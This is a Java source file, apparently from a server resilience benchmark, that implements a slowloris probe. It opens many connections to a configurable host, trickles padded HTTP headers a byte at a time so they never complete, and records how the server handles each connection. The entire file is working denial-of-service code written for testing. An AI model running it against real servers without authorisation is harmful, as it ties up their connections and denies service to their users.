package io.sluice.bench.attack;

import java.io.IOException;
import java.io.InputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

/**
 * Slowloris: connections that send a request's headers one byte at a time, {@link #BYTE_INTERVAL_MS} ms apart,
 * never finishing, so that a server that only times out idle connections keeps them forever. At the end each
 * connection is either closed by the server, answered (its status counted: 408 is a server that timed out the
 * headers), or still open.
 */
final class SlowlorisProbe implements Probe {
    private static final int BYTE_INTERVAL_MS = 200;
    private static final byte[] HEADERS = ("POST /v1/check HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
            + "X-Padding: " + "a".repeat(4_000) + "\r\n").getBytes(StandardCharsets.US_ASCII);

    private final int connections;
    private final int seconds;

    SlowlorisProbe(int connections, int seconds) {
        this.connections = connections;
        this.seconds = seconds;
    }

    @Override
    public String name() {
        return "slowloris";
    }

    @Override
    public String describe() {
        return String.format("%,d connections sending request headers a byte every %d ms, for %d s", connections,
                BYTE_INTERVAL_MS, seconds);
    }

    @Override
    public Outcome run(Target target) throws Exception {
        Answers answers = new Answers();
        List<Socket> open = new ArrayList<>();
        try {
            for (int i = 0; i < connections; i++) {
                Socket socket = new Socket();
                try {
                    socket.connect(new InetSocketAddress(target.host(), target.httpPort()), 5_000);
                    open.add(socket);
                } catch (IOException e) {
                    answers.add("connect failed");
                    socket.close();
                }
            }
            long end = System.nanoTime() + seconds * 1_000_000_000L;
            // Bytes sent stay well under the headers' length, so no connection ever completes its request.
            for (int sent = 0; System.nanoTime() < end && sent < HEADERS.length; sent++) {
                for (var it = open.iterator(); it.hasNext(); ) {
                    Socket socket = it.next();
                    try {
                        socket.getOutputStream().write(HEADERS[sent]);
                        socket.getOutputStream().flush();
                    } catch (IOException e) {
                        answers.add(outcome(socket));
                        socket.close();
                        it.remove();
                    }
                }
                Thread.sleep(BYTE_INTERVAL_MS);
            }
            for (Socket socket : open) {
                answers.add(outcome(socket));
            }
        } finally {
            for (Socket socket : open) {
                socket.close();
            }
        }
        return new Outcome(answers, null);
    }

    /** What the server did with a connection: its status line if it answered, or closed, or nothing yet. */
    private static String outcome(Socket socket) {
        try {
            // A server's FIN or answer on loopback is already there: 1 ms tells, without waiting 50 ms per socket.
            socket.setSoTimeout(1);
            InputStream in = socket.getInputStream();
            byte[] head = new byte[12];
            int n = in.readNBytes(head, 0, head.length);
            if (n == 0) {
                return "closed by server";
            }
            String line = new String(head, 0, n, StandardCharsets.US_ASCII);
            return line.startsWith("HTTP/1.1 ") && n >= 12 ? "answered " + line.substring(9, 12) : "answered";
        } catch (java.net.SocketTimeoutException e) {
            return "still open";
        } catch (IOException e) {
            return "reset by server";
        }
    }
}
